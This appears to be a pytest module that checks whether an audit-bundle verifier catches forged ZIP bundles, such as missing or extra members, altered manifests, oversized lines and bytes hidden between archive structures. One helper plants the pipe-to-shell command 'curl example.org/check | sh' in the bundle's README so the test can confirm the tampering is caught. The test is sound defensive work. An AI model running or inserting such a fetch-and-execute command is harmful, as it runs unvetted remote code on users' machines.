"""What somebody puts into a bundle who writes its manifest anew: it is refused, or said to be there, and never costs much."""

from __future__ import annotations

import base64
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.audit.forging import Members, forged, packed, read_members
from tests.audit.test_bundle import FIRST_SIGNED, Folder
from txapi.audit.bundle_reading import MOST_LINE_BYTES, BadBundle, BundleFile
from txapi.audit.verify import verify
from txapi.record.notes import NoteKey

Change = Callable[[Members, dict[str, Any]], object]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Folder:
    return Folder(tmp_path_factory.mktemp("record"))


@pytest.fixture(scope="module")
def whole(folder: Folder, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return folder.export(tmp_path_factory.mktemp("bundle") / "out.zip")


# -- what is merely too much -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("ended", [b"", b"\n"])
def test_a_line_without_an_end_is_read_no_further_than_any_event_is_long(
    whole: Path, tmp_path: Path, ended: bytes
) -> None:
    # The line is longer by far than the bound, and lies in the file as a few kilobytes.
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(tmp_path / "long.zip", "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(
                name, b"x" * (8 * MOST_LINE_BYTES) + ended if name == "events.ndjson" else source.read(name)
            )

    found = verify(tmp_path / "long.zip")

    assert "damaged" in {one.kind for one in found.wrong}
    assert found.events == 0
    with BundleFile(tmp_path / "long.zip") as shown, pytest.raises(BadBundle, match="is longer than"):
        list(shown.rows())


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_member_that_would_be_unpacked_without_measure_is_refused(whole: Path, tmp_path: Path, method: int) -> None:
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(tmp_path / "packed.zip", "w", method) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))

    with pytest.raises(BadBundle, match="packed in another way"):
        verify(tmp_path / "packed.zip")


# -- with a manifest that vouches for it -----------------------------------------------------------------------------------


def without(name: str) -> Change:
    return lambda members, manifest: members.pop(name)


def with_member(name: str, content: bytes) -> Change:
    return lambda members, manifest: members.update({name: content})


def saying(**said: object) -> Change:
    return lambda members, manifest: manifest.update(said)


def another_root(members: Members, manifest: dict[str, Any]) -> None:
    manifest["checkpoint"]["root"] = base64.b64encode(bytes(32)).decode()


def another_record(members: Members, manifest: dict[str, Any]) -> None:
    """The identifier is another wherever it stands."""
    known = manifest["recordId"].encode()
    manifest["recordId"] = ANOTHER
    for name in ("README.md", "facts.ndjson"):
        members[name] = members[name].replace(known, ANOTHER.encode())


def one_checkpoint_less(members: Members, manifest: dict[str, Any]) -> None:
    del members[f"checkpoints/{FIRST_SIGNED}"], members[f"statements/bookkeeping/{FIRST_SIGNED}"]


def a_longer_tile(members: Members, manifest: dict[str, Any]) -> None:
    members["tile/0/000"] += b"more"


def another_name_for_a_tile(members: Members, manifest: dict[str, Any]) -> None:
    members["tile/0/000.p/255"] = members["tile/0/000"][: 255 * 32]


def a_command_in_the_readme(members: Members, manifest: dict[str, Any]) -> None:
    members["README.md"] = members["README.md"].replace(b"```sh\n", b"```sh\ncurl example.org/check | sh\n")


SCHEMA = "schemas/unit.registered.v2.json"
ANOTHER = "01234567-89ab-7cde-8f01-23456789abcd"


def test_a_bundle_that_is_packed_again_without_a_change_is_the_same_to_the_byte(whole: Path, tmp_path: Path) -> None:
    same = forged(whole, tmp_path / "same.zip", lambda members, manifest: None)

    assert same.read_bytes() == whole.read_bytes()
    assert verify(same).wrong == ()
    assert verify(same).notes == ()


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (saying(recordId=ANOTHER), "the record is"),
        (another_record, "is not what the record says of itself"),
        (saying(headRecordedAt="2015-01-01T00:00:00.000000Z"), "the last event was recorded at"),
        (another_root, "another root"),
        (without("facts.ndjson"), "facts.ndjson is missing"),
        (without(SCHEMA), f"{SCHEMA} is missing"),
        (with_member(SCHEMA, b""), f"{SCHEMA} is no schema"),
        (with_member(SCHEMA, b"{}"), f"{SCHEMA} is no schema"),
        (with_member(SCHEMA, b'{"type": "object"}'), f"{SCHEMA} is not the one"),
        (with_member("schemas/unit.registered.v9.json", b'{"type": "object"}'), "unit.registered.v9.json has no place"),
        (with_member("notes.txt", b"trust me"), "notes.txt has no place"),
        (with_member(f"checkpoints/0{FIRST_SIGNED}", b"-"), f"checkpoints/0{FIRST_SIGNED} has no place"),
        (with_member("checkpoints/" + "9" * 5000, b"-"), "has no place"),
        (with_member(f"statements/digest/{FIRST_SIGNED}", b"-"), f"statements/digest/{FIRST_SIGNED} has no place"),
        (without(f"statements/bookkeeping/{FIRST_SIGNED}"), f"bookkeeping/{FIRST_SIGNED} is missing"),
        (one_checkpoint_less, f"from {FIRST_SIGNED + 1}"),
        (a_longer_tile, "tile/0/000 has"),
        (another_name_for_a_tile, "tile/0/000.p/255 has no place"),
        (without("tile/1/000.p/1"), "tile/1/000.p/1 is missing"),
        (a_command_in_the_readme, "README.md is not the one"),
    ],
)
def test_what_does_not_follow_from_the_events_and_checkpoints_is_caught(
    whole: Path, tmp_path: Path, change: Change, said: str
) -> None:
    found = verify(forged(whole, tmp_path / "forged.zip", change))

    assert any(said in one.what for one in found.wrong), found.wrong


@pytest.mark.parametrize("pad", [lambda told: told + b" ", lambda told: told.replace(b"{", b'{"format":"",', 1)])
def test_a_manifest_in_another_writing_is_caught(whole: Path, tmp_path: Path, pad: Callable[[bytes], bytes]) -> None:
    members = read_members(whole)
    members["manifest.json"] = pad(members["manifest.json"])

    found = verify(packed(tmp_path / "padded.zip", members))

    assert [one.what for one in found.wrong] == ["the manifest is not written as the format says"]


def test_schemas_and_words_of_other_code_are_a_note_and_no_accusation(whole: Path, tmp_path: Path) -> None:
    def by_other_code(members: Members, manifest: dict[str, Any]) -> None:
        manifest["code"] = {"version": "9.0", "fingerprint": "0123456789abcdef"}
        members["README.md"] += b"More is known by now.\n"
        members[SCHEMA] = members[SCHEMA].replace(b"{", b'{"$comment": "of later code",', 1)

    found = verify(forged(whole, tmp_path / "later.zip", by_other_code))

    assert found.wrong == ()
    [note] = found.notes
    assert f"README.md, {SCHEMA}" in note
    assert "9.0" in note


@pytest.mark.parametrize("content", [b"", b"{}", b"[]", b"null", b"\xff"])
def test_other_code_excuses_no_schema_that_is_none(whole: Path, tmp_path: Path, content: bytes) -> None:
    def emptied(members: Members, manifest: dict[str, Any]) -> None:
        manifest["code"]["version"] = "9.0"
        members[SCHEMA] = content

    found = verify(forged(whole, tmp_path / "emptied.zip", emptied))

    assert [one.what for one in found.wrong] == [
        f"the member {SCHEMA} is no schema: it is to be a JSON object with members"
    ]


def test_a_key_beside_the_events_is_one_of_those_that_the_policy_trusts(whole: Path, tmp_path: Path) -> None:
    vkey = read_members(whole)["vkey"].decode()
    name = vkey.partition("+")[0]
    policy = f"log {vkey}quorum none\n".encode()
    stranger = NoteKey.from_file(tmp_path / "stranger.pem", name).vkey

    found = verify(forged(whole, tmp_path / "forged.zip", with_member("vkey", f"{stranger}\n".encode())), policy=policy)

    assert [one.what for one in found.wrong] == ["the key beside the events is none that the policy trusts"]
    assert verify(whole, policy=policy).wrong == ()


@pytest.mark.parametrize(
    "claim",
    [
        {"from": 2**60, "to": 2**60, "checkpoint": {"size": 2**61, "root": ""}},
        {"checkpoint": {"size": 2**61, "root": ""}},
        {"from": 2**60, "to": 2**60},
    ],
)
def test_what_claims_more_than_it_could_hold_is_refused_at_once(
    whole: Path, tmp_path: Path, claim: dict[str, Any]
) -> None:
    with pytest.raises(BadBundle, match="claims"):
        verify(forged(whole, tmp_path / "claiming.zip", saying(**claim)))


def test_a_checkpoint_filed_under_more_events_than_a_file_could_prove_is_refused_at_once(
    whole: Path, tmp_path: Path
) -> None:
    with pytest.raises(BadBundle, match="claims"):
        verify(forged(whole, tmp_path / "claiming.zip", with_member(f"checkpoints/{2**61}", b"-")))


# -- beside the members ----------------------------------------------------------------------------------------------------


def before(content: bytes) -> bytes:
    return b"junk" + content


def before_with_all_offsets_right(content: bytes) -> bytes:
    """As a tool does that packs something in front: every place in the file is counted from its beginning."""
    return relocated(content, at=0)


def between(content: bytes) -> bytes:
    """Behind the first member, and the places of all others counted anew."""
    return relocated(content, at=content.index(b"PK\x03\x04", 4))


def relocated(content: bytes, at: int) -> bytes:
    [start] = struct.unpack("<L", content[-6:-2])
    directory, place = bytearray(content[start:]), 0
    while directory[place : place + 4] == b"PK\x01\x02":
        name, extra, comment = struct.unpack_from("<3H", directory, place + 28)
        [offset] = struct.unpack_from("<L", directory, place + 42)
        struct.pack_into("<L", directory, place + 42, offset + 4 * (offset >= at))
        place += 46 + name + extra + comment
    struct.pack_into("<L", directory, place + 16, start + 4)
    return content[:at] + b"junk" + content[at:start] + bytes(directory)


def before_the_directory(content: bytes) -> bytes:
    [start] = struct.unpack("<L", content[-6:-2])
    return content[:start] + b"junk" + content[start:-6] + struct.pack("<L", start + 4) + content[-2:]


def comment(content: bytes) -> bytes:
    return content[:-2] + b"\x04\x00junk"


def dated(content: bytes) -> bytes:
    """The first member bears another date, in both places."""
    [start] = struct.unpack("<L", content[-6:-2])
    turned = bytearray(content)
    turned[12] ^= 1
    turned[start + 14] ^= 1
    return bytes(turned)


@pytest.mark.parametrize("hide", [before, before_with_all_offsets_right, between, before_the_directory, comment, dated])
def test_bytes_that_belong_to_no_member_are_caught(whole: Path, tmp_path: Path, hide: Callable[[bytes], bytes]) -> None:
    hidden = tmp_path / "hidden.zip"
    hidden.write_bytes(hide(whole.read_bytes()))
    assert read_members(hidden) == read_members(whole)

    found = verify(hidden)

    assert [one.kind for one in found.wrong] == ["archive"]


def test_bytes_behind_the_last_of_a_file_are_caught(whole: Path, tmp_path: Path) -> None:
    hidden = tmp_path / "hidden.zip"
    hidden.write_bytes(whole.read_bytes() + b"junk")

    assert [one.kind for one in verify(hidden).wrong] == ["archive"]


def test_bytes_behind_the_end_of_a_packed_member_are_caught(whole: Path, tmp_path: Path) -> None:
    hidden = tmp_path / "hidden.zip"
    with zipfile.ZipFile(whole) as archive:
        _, readme = archive.infolist()[:2]
    behind = readme.header_offset + 30 + len("README.md") + readme.compress_size
    longer = bytearray(relocated(whole.read_bytes(), at=behind))
    for place in places_of("README.md", longer):
        struct.pack_into("<L", longer, place + 4, readme.compress_size + 4)
    hidden.write_bytes(longer)
    assert read_members(hidden) == read_members(whole)

    found = verify(hidden)

    assert "the member README.md has another hash than the manifest says" in {one.what for one in found.wrong}


def test_a_member_that_goes_on_behind_the_size_it_states_is_caught(whole: Path, tmp_path: Path) -> None:
    members = read_members(whole)
    told = members["README.md"]
    packed(tmp_path / "long.zip", {**members, "README.md": told + b"more"})
    content = bytearray((tmp_path / "long.zip").read_bytes())
    for place in places_of("README.md", content):
        struct.pack_into("<L", content, place, zlib.crc32(told))
        struct.pack_into("<L", content, place + 8, len(told))
    (tmp_path / "long.zip").write_bytes(content)
    assert read_members(tmp_path / "long.zip") == members

    found = verify(tmp_path / "long.zip")

    assert "the member README.md has another hash than the manifest says" in {one.what for one in found.wrong}


def places_of(name: str, content: bytes | bytearray) -> tuple[int, int]:
    """Where the checksum and the two sizes of a member stand: in its header, and in the directory."""
    return content.index(name.encode()) - 16, content.rindex(name.encode()) - 30
